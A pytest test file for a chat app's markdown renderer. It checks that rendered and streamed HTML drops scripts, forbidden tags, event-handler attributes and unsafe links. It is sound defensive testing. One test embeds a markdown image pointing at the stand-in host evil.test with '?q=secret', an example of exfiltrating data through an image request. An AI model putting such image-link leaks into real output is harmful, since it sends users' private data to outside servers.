"""Markdown, and that nothing hostile comes through it: stored or streamed."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from webchat.chat.markdown import Stream, render

from .hostile import HOSTILE

SAFE_ADDRESS = re.compile(r"(https?://|mailto:|/c/)")
FORBIDDEN_TAGS = {
    "script",
    "style",
    "img",
    "iframe",
    "svg",
    "math",
    "form",
    "input",
    "link",
    "meta",
    "base",
    "template",
}


class Inspector(HTMLParser):
    """Fails on whatever could run, load or reach into the page."""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attributes:
            assert not name.startswith(("on", "hx-", "ws-", "data-hx")), name
            assert name not in ("style", "id", "src", "srcset", "background"), name
            assert name != "href" or SAFE_ADDRESS.match(value or ""), value


def assert_harmless(html: str) -> None:
    Inspector().feed(html)


def streamed(text: str, step: int = 1) -> list[str]:
    """What a page holds after each piece."""
    stream = Stream()
    blocks, states = "", []
    for start in range(0, len(text), step):
        blocks += stream.feed(text[start : start + step], {})
        states.append(blocks + stream.open_html({}))
    return states


@pytest.mark.parametrize("text", HOSTILE)
def test_row_29_nothing_hostile_survives_rendering(text: str):
    assert_harmless(render(text))
    assert_harmless(render(f"- item\n\n  > {text}\n\n{text} and more"))


@pytest.mark.parametrize("text", HOSTILE)
def test_row_30_nothing_hostile_survives_while_streaming(text: str):
    for html in streamed(f"Well:\n\n{text}\n\nThat is all."):
        assert_harmless(html)


def test_row_31_an_image_makes_no_request():
    html = render("![secret](http://evil.test/?q=secret) [![x](http://evil.test/x.png)](http://evil.test/)")
    assert "<img" not in html and "src=" not in html
    assert "Image: secret" in html


def test_links_open_elsewhere_and_tell_nobody_where_from():
    html = render("[a](https://example.org/b) and https://example.org/c")
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert html.count('target="_blank"') == 2
    assert 'title="https://example.org/b"' in html


def test_code_gets_a_head_with_its_language_and_a_button():
    html = render("```python\nprint('<b>')\n```")
    assert '<span class="code-language">python</span>' in html
    assert "data-copy" in html
    assert '<span class="hl-nb">print</span>' in html and "&lt;b&gt;" in html


def test_code_in_no_known_language_is_shown_plain():
    assert "<code>x &lt; 1\n</code>" in render("```nonsense\nx < 1\n```")


def test_tables_and_lists_and_breaks():
    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n1. one\n2. two\n\nline\nbreak ~~gone~~")
    assert '<td class="align-right">1</td>' in html and "style" not in html
    assert "<ol>" in html and "<br>" in html and "gone" in html


TEXT = """# Title

A paragraph with **bold**, `code` and [1].

- one
- two

  with a second paragraph
- three

```python
def f():

    return 1

# not a heading
```

| a | b |
|---|---|
| 1 | 2 |

> quoted

1. first

2. second

The *end*."""


@pytest.mark.parametrize("step", [1, 2, 3, 7, 50, 1000])
def test_the_streamed_text_ends_as_the_stored_one(step: int):
    final = streamed(TEXT, step)[-1]
    colorless = re.sub(r'<span class="hl-[^>]*>([^<]*)</span>', r"\1", render(TEXT))
    assert re.sub(r'<span class="hl-[^>]*>([^<]*)</span>', r"\1", final).split() == colorless.split()


@pytest.mark.parametrize(
    "text", ["Foo\n***bold***", "Foo\n#hash", "- a\nb\n", "Foo\n-x", "a\n1. b", "| a |\n|---|\n| 1 |\n"]
)
def test_a_half_line_closes_nothing(text: str):
    assert streamed(text)[-1].split() == render(text).split()


def test_finished_blocks_are_not_rendered_again():
    stream = Stream()
    assert "One." in stream.feed("One.\n\nTwo.\n\nThr", {})
    assert stream.tail == "Two.\n\nThr"
    assert stream.feed("ee.", {}) == ""
    assert "Two." in stream.feed("\n", {})
    assert stream.tail == "Three.\n"


def test_an_open_code_block_stays_whole():
    stream = Stream()
    assert stream.feed("```\na\n\nb\n\nc\n", {}) == ""
    assert stream.tail.startswith("```")
